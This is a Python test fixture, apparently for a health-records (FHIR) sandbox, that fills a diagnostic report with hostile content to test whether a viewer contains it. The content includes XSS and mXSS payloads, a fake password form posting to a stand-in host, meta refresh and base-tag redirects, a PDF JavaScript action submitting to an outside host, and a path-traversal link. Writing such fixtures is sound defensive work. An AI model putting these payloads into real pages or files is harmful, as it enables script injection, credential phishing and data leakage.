"""Reports that try to break out of the page they are shown in (fault `reports-hostile`): by HTML, by documents."""

from sandbox.fhir.attachments import encoded
from sandbox.fhir.parts import Resource
from sandbox.pdf import pdf

HTML = (
    '<div xmlns="http://www.w3.org/1999/xhtml"><p onclick="document.title=1">Lungs <b>clear</b>.</p>'
    "<script>document.title='owned'</script><style>body{display:none}</style>"
    '<img src="http://tracker.elsewhere.example/x.png" onerror="document.title=\'owned\'">'
    '<iframe src="http://frame.elsewhere.example/"></iframe>'
    '<svg onload="document.title=1"><a href="javascript:1">x</a></svg>'
    '<form action="http://post.elsewhere.example/"><input name="password"><button>Sign in</button></form>'
    '<a href="javascript:document.title=1">a link</a><base href="http://base.elsewhere.example/">'
    '<p style="position:fixed;inset:0;background:red" class="identity" id="ended">covers all</p>'
    '<meta http-equiv="refresh" content="0;url=http://refresh.elsewhere.example/">'
    '<math><mtext><table><mglyph><style><img src=x onerror="document.title=1"></style></mglyph></table></mtext></math>'
    "</div></main></body><h1>LINDQVIST, Cleo</h1>"
)
SCRIPTED = (
    b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://pdf.elsewhere.example/'\\)) >> "
)


def hostile_report(resource: Resource) -> Resource:
    """The report with all of it in the places where harmless words stood."""
    return {
        **resource,
        "text": {"status": "generated", "div": HTML},
        "conclusion": "</p><script>document.title='owned'</script> right \u202e to left",
        "presentedForm": [
            {"contentType": "application/pdf", "data": encoded(HTML.encode()), "title": "A page that says it is a PDF"},
            {"contentType": "application/pdf", "data": encoded(pdf(["Harmless to look at"], SCRIPTED))},
            {"contentType": "application/pdf", "url": "http://pdf.elsewhere.example/report.pdf", "title": "Elsewhere"},
            {"contentType": "application/pdf", "url": "../../audit/fhir/r4/AuditEvent", "title": "Above"},
            {"contentType": "image/svg+xml", "data": encoded(b"<svg onload='document.title=1'/>")},
        ],
    }
